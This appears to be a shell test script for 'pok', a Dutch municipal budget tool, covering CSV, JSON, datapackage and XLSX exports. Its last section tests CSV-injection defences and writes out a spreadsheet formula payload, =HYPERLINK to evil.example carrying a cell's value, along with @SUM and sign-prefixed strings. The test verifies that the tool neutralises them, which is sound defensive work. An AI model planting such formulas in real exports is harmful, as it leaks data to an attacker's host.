# Exports: every table as CSV, one municipality as JSON, a Fiscal Data Package, and the
# XLSX whose totals LibreOffice recalculates from real formulas (docs/export.md).
EXDB=$(db_new export)
"$POK" --db "$EXDB" demo --quiet >/dev/null 2>&1

expect "export csv writes every table" 0 "17 tabellen van 4 gemeenten" \
  -- "$POK" --db "$EXDB" export csv ex-all
expect "export csv refuses to overwrite" 1 "ex-all/gemeenten.csv" "bestaat al" "--force" \
  -- "$POK" --db "$EXDB" export csv ex-all
expect "export csv --force overwrites" 0 "17 tabellen" -- "$POK" --db "$EXDB" export csv ex-all --force
expect "export csv unknown municipality" 1 "onbekende gemeente 'GM9999'" \
  -- "$POK" --db "$EXDB" export csv ex-none --municipality GM9999
if [ -e ex-none ]; then not_ok "failed export writes nothing" "ex-none exists"; else ok "failed export writes nothing"; fi
expect "export csv one municipality" 0 "van 1 gemeente geschreven" \
  -- "$POK" --db "$EXDB" export csv ex-ovb --municipality GM1734
for c in GM1734 GM1773 GM0534 GM0362; do "$POK" --db "$EXDB" coverage $c --format csv >"cov-$c.csv"; done

# The CSV files parse (RFC 4180), every row has the header's width, and dekking.csv holds
# exactly the rows of `pok coverage --format csv` of each municipality.
if python3 - ex-all ex-ovb >out 2>&1 <<'EOF'
import csv, os, sys
all_dir, one_dir = sys.argv[1], sys.argv[2]
names = ["gemeenten", "inwoners", "bronnen", "actielijnen", "toekenningen", "potten",
         "maatregelen", "bedragen", "reserve_openingen", "reservemutaties", "besluiten",
         "verzoeken", "evaluaties", "afgesloten_jaren", "genoemde_bedragen", "dekking",
         "bevindingen"]
assert sorted(os.listdir(all_dir)) == sorted(n + ".csv" for n in names), os.listdir(all_dir)
def rows(d, n):
    with open(os.path.join(d, n + ".csv"), newline="", encoding="utf-8") as f:
        return list(csv.reader(f))
for n in names:
    r = rows(all_dir, n)
    for i, row in enumerate(r):
        assert len(row) == len(r[0]), (n, i, row)
codes = [row[0] for row in rows(all_dir, "gemeenten")[1:]]
assert codes == ["GM0362", "GM0534", "GM1773", "GM1734"], codes
assert [row[0] for row in rows(one_dir, "gemeenten")[1:]] == ["GM1734"]
dekking = rows(all_dir, "dekking")
for code in ["GM1734", "GM1773", "GM0534"]:
    cov = rows(".", "cov-" + code)
    assert cov[0] == dekking[0]
    mine = [row for row in dekking[1:] if row[0] == code]
    assert mine == cov[1:] and mine, code
# amounts are whole cents: 4 versions kept for GM1734? every version is there, flagged
alloc = rows(all_dir, "toekenningen")
h = alloc[0]
assert all(row[h.index("actueel")] in ("0", "1") for row in alloc[1:])
assert all(int(row[h.index("bedrag_cents")]) >= 0 for row in alloc[1:])
ovb = sum(int(r[h.index("bedrag_cents")]) for r in alloc[1:]
          if r[h.index("gemeente")] == "GM1734" and r[h.index("actueel")] == "1")
assert ovb == 71500000, ovb
# a quoted pot name with a comma survives
assert any(r[2] == "Actielijnen 3, 4 en 5" for r in rows(all_dir, "potten")[1:])
EOF
then ok "export csv: RFC 4180, widths, dekking = pok coverage"; else not_ok "export csv: RFC 4180, widths, dekking = pok coverage"; fi

# JSON: one document with the coverage and findings of the contract.
expect "export json to a file" 0 -- "$POK" --db "$EXDB" export json GM1773 --out ow.json
"$POK" --db "$EXDB" coverage GM1773 --format json >ow-cov.json
"$POK" --db "$EXDB" check GM1773 --format json >ow-check.json
if python3 - >out 2>&1 <<'EOF'
import json
d = json.load(open("ow.json"))
assert d["municipality"]["code"] == "GM1773"
assert d["coverage"] == json.load(open("ow-cov.json"))
assert d["findings"] == json.load(open("ow-check.json"))["findings"]
assert len(d["pots"]) == 2 and d["pots"][1]["actielijnen"] == [3, 4, 5]
assert sum(a["amount_cents"] for a in d["allocations"] if a["current"]) == 45800000
m = d["measures"][0]
assert all(set(x) >= {"year", "kind", "amount_cents"} for x in m["amounts"])
assert isinstance(d["reserve"]["movements"], list)
EOF
then ok "export json: coverage and findings as the contract"; else not_ok "export json: coverage and findings as the contract"; fi
expect "export json unknown municipality" 1 "onbekende gemeente" -- "$POK" --db "$EXDB" export json GM9999

# Fiscal Data Package: datapackage.json describes the CSV files exactly.
expect "export datapackage" 0 "datapackage.json" -- "$POK" --db "$EXDB" export datapackage ex-dp
if python3 - ex-dp >out 2>&1 <<'EOF'
import csv, json, os, re, sys
d = sys.argv[1]
pkg = json.load(open(os.path.join(d, "datapackage.json")))
assert pkg["profile"] == "fiscal-data-package" and pkg["licenses"] and pkg["sources"]
assert re.fullmatch(r"[-a-z0-9._/]+", pkg["name"]), pkg["name"]
tables = {}
for r in pkg["resources"]:
    path = os.path.join(d, r["path"])
    assert os.path.exists(path), path
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    names = [fd["name"] for fd in r["schema"]["fields"]]
    assert rows[0] == names, (r["name"], rows[0], names)
    for fd in r["schema"]["fields"]:
        i = names.index(fd["name"])
        for row in rows[1:]:
            v = row[i]
            if v == "": continue
            if fd["type"] == "integer": int(v)
            elif fd["type"] == "boolean": assert v in ("0", "1"), v
            elif fd["type"] == "date": assert re.fullmatch(r"\d{4}-\d\d-\d\d", v), v
            else: assert fd["type"] == "string", fd
    tables[r["name"]] = (names, rows[1:])
for r in pkg["resources"]:
    names, rows = tables[r["name"]]
    pk = r["schema"].get("primaryKey")
    if pk:
        keys = [tuple(row[names.index(k)] for k in pk) for row in rows]
        assert len(keys) == len(set(keys)), (r["name"], "duplicate key")
    for fk in r["schema"].get("foreignKeys", []):
        rn, rf = fk["reference"]["resource"], fk["reference"]["fields"]
        target = {row[tables[rn][0].index(rf)] for row in tables[rn][1]}
        for row in rows:
            v = row[names.index(fk["fields"])]
            assert v == "" or v in target, (r["name"], fk, v)
model = pkg["model"]
for m in model["measures"].values():
    assert m["source"] in tables[m["resource"]][0] and m["currency"] == "EUR"
for dim in model["dimensions"].values():
    for a in dim["attributes"].values():
        assert a["source"] in tables[a["resource"]][0], a
    assert dim["primaryKey"] in dim["attributes"]
assert set(model["dimensions"]) >= {"gemeente", "actielijn", "jaar", "maatregel"}
EOF
then ok "datapackage: paths, fields = headers, types, keys, model"; else not_ok "datapackage: paths, fields = headers, types, keys, model"; fi
# frictionless (PyPI) is not installed here; when it is, it validates the package too.
if python3 -c "import frictionless" 2>/dev/null; then
  expect "frictionless validate" 0 -- frictionless validate ex-dp/datapackage.json
fi

# XLSX: formulas recalculated by LibreOffice give the engine's figures.
expect "export xlsx needs --out" 1 "veld 'out'" -- "$POK" --db "$EXDB" export xlsx GM1734
expect "export xlsx to a missing directory" 1 "niet schrijven" \
  -- "$POK" --db "$EXDB" export xlsx GM1734 --out no-such-dir/x.xlsx
for c in GM1734 GM1773 GM0534 GM0362; do
  expect "export xlsx $c" 0 "$c.xlsx geschreven" -- "$POK" --db "$EXDB" export xlsx $c --out $c.xlsx
done
if grep -q "als getal" out; then not_ok "every derived cell is a formula"; else ok "every derived cell is a formula"; fi
if python3 -c "
import zipfile; x = zipfile.ZipFile('GM1734.xlsx').read('xl/worksheets/sheet1.xml').decode()
assert '<f>SUM(B7:E7)</f>' in x and '<f>B6-B12+B13</f>' in x and '<f>B15</f>' in x, x[:3000]" >out 2>&1
then ok "xlsx holds SUM and reserve formulas"; else not_ok "xlsx holds SUM and reserve formulas"; fi

# A LibreOffice profile that always recalculates OOXML on load, so the values read back
# are computed by the formulas, not the cached results pok wrote.
xlsx_to_csv() {
  mkdir -p "$WORK/lo/user" lo-out
  cat >"$WORK/lo/user/registrymodifications.xcu" <<'EOF'
<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
EOF
  soffice -env:UserInstallation="file://$WORK/lo" --headless --convert-to \
    'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1' \
    --outdir lo-out "$@" >lo.log 2>&1
}

if ! command -v soffice >/dev/null 2>&1; then
  ok "xlsx in LibreOffice # SKIP soffice not installed (scripts/deps.sh installs it)"
else
  xlsx_to_csv GM1734.xlsx GM1773.xlsx GM0534.xlsx GM0362.xlsx
  if python3 - ex-all >out 2>&1 <<'EOF'
import csv, os, sys
from decimal import Decimal
d = sys.argv[1]
def read(p):  # LibreOffice may write an empty row as an empty line: drop those
    with open(p, newline="", encoding="utf-8") as f: return [r for r in csv.reader(f) if r]
def cents(v): return int(Decimal(v) * 100)
fields = {"Reserve op 1 januari": "reserve_start", "Toekenning van het jaar": "allocation",
          "Begroot (plannen)": "planned", "Gerealiseerd": "realised",
          "Uitgaven (begroot of gerealiseerd)": "spending",
          "Gedekt uit toekenning van het jaar": "from_allocation",
          "Gedekt uit toekenning voor een periode": "from_period",
          "Onttrekking uit reserve": "reserve_withdrawal", "Storting in reserve": "reserve_deposit",
          "waarvan besloten (storting of overheveling)": "decided_deposit",
          "waarvan verwacht (nog geen besluit)": "expected_deposit",
          "Reserve op 31 december": "reserve_end",
          "Nog niet besteed van de toekenning voor een periode": "period_left",
          "Tekort (niet gedekt)": "shortfall",
          "Zonder bestemming": "unplanned", "Niet besteed, onverklaard": "unexplained"}
balances = {"reserve_start", "reserve_end", "period_left"}
checked = 0
for code in ["GM1734", "GM1773", "GM0534", "GM0362"]:
    sheet = read(f"lo-out/{code}-Dekking.csv")
    assert sheet[0][0].startswith(f"Stand POK-middelen {code} "), sheet[0]
    assert "bron: pok" in sheet[1][0]
    cov = read(f"cov-{code}.csv")
    h = cov[0]
    pots = []
    for row in cov[1:]:
        if row[1] not in pots: pots.append(row[1])
    blocks = [i for i, r in enumerate(sheet) if r[0].startswith("Pot: ")]
    assert len(blocks) == len(pots), (code, blocks, pots)
    for pot, at in zip(pots, blocks):
        years = [y.rstrip("*") for y in sheet[at + 1][1:] if y and y != "Totaal"]
        prow = {r[h.index("year")]: r for r in cov[1:] if r[1] == pot}
        assert years == list(prow), (code, years)
        for r in sheet[at + 2:]:
            if r[0] not in fields: break
            f = fields[r[0]] + "_cents"
            want = [int(prow[y][h.index(f)]) for y in years]
            assert [cents(v) for v in r[1:1 + len(years)]] == want, (code, r, want)
            total = r[1 + len(years)]
            if fields[r[0]] in balances: assert total == "", r
            else: assert cents(total) == sum(want), (code, r)
            checked += 1
    # allocations: column totals and the grand total against toekenningen.csv
    t = read(f"lo-out/{code}-Toekenningen.csv")
    alloc = read(os.path.join(d, "toekenningen.csv"))
    ah = alloc[0]
    cur = [r for r in alloc[1:] if r[ah.index("gemeente")] == code and r[ah.index("actueel")] == "1"]
    total_row = [r for r in t if r[0] == "Totaal"]
    if cur:
        head = next(r for r in t if r[0] == "Actielijn")
        for j, y in enumerate(head[1:-1]):
            want = sum(int(r[ah.index("bedrag_cents")]) for r in cur if r[ah.index("jaar")] == y)
            assert cents(total_row[0][1 + j]) == want, (code, y)
        assert cents(total_row[0][len(head) - 1]) == sum(int(r[ah.index("bedrag_cents")]) for r in cur)
        checked += 1
    else:
        assert not total_row
    # measures: plan and realised grand totals against bedragen.csv
    m = read(f"lo-out/{code}-Maatregelen.csv")
    ms = {r[0] for r in read(os.path.join(d, "maatregelen.csv"))[1:] if r[1] == code}
    amounts = [r for r in read(os.path.join(d, "bedragen.csv"))[1:] if r[1] in ms]
    for label, kind in (("Totaal gepland", "plan"), ("Totaal gerealiseerd", "realisatie")):
        rows = [r for r in m if r[0] == label]
        if not amounts: assert not rows; continue
        last = max(i for i, v in enumerate(rows[0]) if v != "")
        assert cents(rows[0][last]) == sum(int(a[4]) for a in amounts if a[3] == kind), (code, label)
        checked += 1
    assert read(f"lo-out/{code}-Bevindingen.csv")[3][:2] == ["Ernst", "Jaar"]
assert checked > 30, checked
print(checked, "rows and totals checked")
EOF
  then ok "xlsx recalculated by LibreOffice = engine (4 municipalities, $(cat out))"
  else not_ok "xlsx recalculated by LibreOffice = engine (4 municipalities)"; sed 's/^/    /' lo.log | head -5; fi

  # Change one input cell (allocation 2024 of Overbetuwe, B7) in the sheet XML: the
  # recalculated totals and the reserve chain through 2027 must follow.
  python3 -c "
import re, zipfile
src = zipfile.ZipFile('GM1734.xlsx'); dst = zipfile.ZipFile('broken.xlsx', 'w', zipfile.ZIP_DEFLATED)
for item in src.infolist():
    data = src.read(item.filename)
    if item.filename == 'xl/worksheets/sheet1.xml':
        old = data
        data = re.sub(rb'(<c r=\"B7\"[^>]*><v>)175000(</v>)', rb'\g<1>175001\2', data)
        assert data != old
    dst.writestr(item, data)
dst.close()" >out 2>&1 || not_ok "break an input cell" "python failed"
  xlsx_to_csv broken.xlsx
  if python3 - >out 2>&1 <<'EOF'
import csv
rows = {r[0]: r for r in csv.reader(open("lo-out/broken-Dekking.csv", newline=""))}
assert rows["Toekenning van het jaar"][1] == "175001", rows["Toekenning van het jaar"]
assert rows["Toekenning van het jaar"][5] == "715001", rows["Toekenning van het jaar"]
assert rows["Gedekt uit toekenning van het jaar"][1] == "175001"
assert rows["Onttrekking uit reserve"][1] == "224499"
assert rows["Reserve op 31 december"][1:5] == ["235001", "10001", "1", "180001"], rows["Reserve op 31 december"]
EOF
  then ok "xlsx totals are formulas: a changed input changes them"
  else not_ok "xlsx totals are formulas: a changed input changes them"; fi
fi

# The web: download links on the municipality page, the same spreadsheet and JSON.
: >ex-serve.out
"$POK" --db "$EXDB" serve --port 0 >ex-serve.out 2>&1 &
ex_pid=$!
ex_url=""
tries=0
while [ -z "$ex_url" ] && [ $tries -lt 300 ] && kill -0 "$ex_pid" 2>/dev/null; do
  ex_url=$(sed -n 's/^pok serve: \(http:[^ ]*\) .*/\1/p' ex-serve.out)
  [ -z "$ex_url" ] && sleep 0.1
  tries=$((tries + 1))
done
if [ -z "$ex_url" ]; then
  not_ok "export web: server starts" "$(cat ex-serve.out)"
else
  curl -s --max-time 30 -o page.html "${ex_url}gemeente/GM1734"
  if grep -qF 'href="/gemeente/GM1734/stand.xlsx"' page.html &&
    grep -qF 'href="/gemeente/GM1734/export.json"' page.html; then
    ok "export web: download links on the municipality page"
  else not_ok "export web: download links on the municipality page"; fi
  code=$(curl -s --max-time 60 -D xh -o web.xlsx -w '%{http_code}' "${ex_url}gemeente/GM1734/stand.xlsx")
  if [ "$code" = 200 ] && grep -qi '^Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' xh &&
    grep -qi '^Content-Disposition: attachment; filename="stand-GM1734.xlsx"' xh &&
    python3 -c "
import zipfile
a, b = zipfile.ZipFile('web.xlsx'), zipfile.ZipFile('GM1734.xlsx')
for n in ('xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml', 'xl/worksheets/sheet3.xml'):
    assert a.read(n) == b.read(n), n" >out 2>&1; then
    ok "export web: stand.xlsx is the CLI's spreadsheet"
  else not_ok "export web: stand.xlsx is the CLI's spreadsheet" "HTTP $code" "$(cat xh)"; fi
  code=$(curl -s --max-time 30 -D jh -o web.json -w '%{http_code}' "${ex_url}gemeente/GM1773/export.json")
  if [ "$code" = 200 ] && grep -qi '^Content-Disposition: attachment; filename="export-GM1773.json"' jh &&
    python3 -c "
import json
a, b = json.load(open('web.json')), json.load(open('ow.json'))
a.pop('exported_at'); b.pop('exported_at')
assert a == b" >out 2>&1; then
    ok "export web: export.json is the CLI's document"
  else not_ok "export web: export.json is the CLI's document" "HTTP $code"; fi
  code=$(curl -s --max-time 30 -o /dev/null -w '%{http_code}' "${ex_url}gemeente/GM9999/stand.xlsx")
  if [ "$code" = 404 ]; then ok "export web: unknown municipality is 404"; else not_ok "export web: unknown municipality is 404" "HTTP $code"; fi
fi
kill "$ex_pid" 2>/dev/null
wait "$ex_pid" 2>/dev/null

# CSV injection: text that starts with = + - @ (a measure named as a spreadsheet formula)
# gets a leading apostrophe in every CSV pok writes (export csv, export datapackage,
# audit --format csv, ledger), so a spreadsheet shows it instead of running it; numbers,
# also negative ones, stay numbers.
INJ_DB=$(db_new inject)
inj_formula='=HYPERLINK("http://evil.example/?"&A1,"klik")'
inj_quoted='"'\''=HYPERLINK(""http://evil.example/?""&A1,""klik"")"'
{
  "$POK" --db "$INJ_DB" init &&
    "$POK" --db "$INJ_DB" municipality add GM1734 Overbetuwe &&
    "$POK" --db "$INJ_DB" source add --kind circulaire --title 'Meicirculaire 2024' &&
    "$POK" --db "$INJ_DB" allocation add GM1734 2 2024 1.000 --source 1 &&
    "$POK" --db "$INJ_DB" measure add GM1734 "$inj_formula" --partner '@SUM(1+1)' \
      --description '+31 6 1234' &&
    "$POK" --db "$INJ_DB" measure plan 1 2024 5.000 &&
    "$POK" --db "$INJ_DB" measure add GM1734 Weg &&
    "$POK" --db "$INJ_DB" delete measure 2 --reason '-2+3 (per ongeluk)'
} >out 2>&1 || not_ok "csv injection: the records" "$(cat out)"
expect "csv injection: export csv" 0 "van 1 gemeente geschreven" -- "$POK" --db "$INJ_DB" export csv inj-csv
expect "csv injection: export datapackage" 0 "datapackage.json" -- "$POK" --db "$INJ_DB" export datapackage inj-dp
"$POK" --db "$INJ_DB" audit --format csv >inj-audit.csv 2>&1
for f in inj-csv/maatregelen.csv inj-dp/maatregelen.csv; do
  if grep -qF ",$inj_quoted,'+31 6 1234,'@SUM(1+1),gepland," "$f" && ! grep -q ',=HYPERLINK' "$f"; then
    ok "csv injection: $f neutralises the name, description and partner"
  else not_ok "csv injection: $f neutralises the name, description and partner" "$(cat "$f")"; fi
done
# a negative amount is a number, not text: it stays as it is (pok ledger totals --format csv)
printf 'boekjaar;kostenplaats;bedrag\n2024;=HYPERLINK("x");-2500,50\n2024;-KP1;100,00\n' >inj-gb.csv
expect "csv injection: ledger totals keeps negative amounts and neutralises codes" 0 \
  '"'\''=HYPERLINK(""x"")",2024,1,"-2500,50"' "'-KP1,2024,1,\"100,00\"" \
  -- "$POK" ledger totals inj-gb.csv --format csv
if grep -qF ",'-2+3 (per ongeluk)" inj-audit.csv && ! grep -q ',-2+3' inj-audit.csv &&
  grep -qF 'name: =HYPERLINK' inj-audit.csv; then
  ok "csv injection: audit --format csv neutralises a reason"
else not_ok "csv injection: audit --format csv neutralises a reason" "$(cat inj-audit.csv)"; fi
if python3 - inj-csv/maatregelen.csv inj-audit.csv >out 2>&1 <<'EOF'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
h = rows[0]
assert rows[1][h.index("naam")] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"klik")', rows[1]
audit = list(csv.reader(open(sys.argv[2], newline="", encoding="utf-8")))
assert all(len(r) == len(audit[0]) for r in audit), audit
assert not any(c[:1] in "=+-@\t\r" for r in rows[1:] + audit[1:] for c in r if c and not c.lstrip("-").isdigit())
EOF
then ok "csv injection: the CSVs parse and no text cell starts a formula"
else not_ok "csv injection: the CSVs parse and no text cell starts a formula"; fi
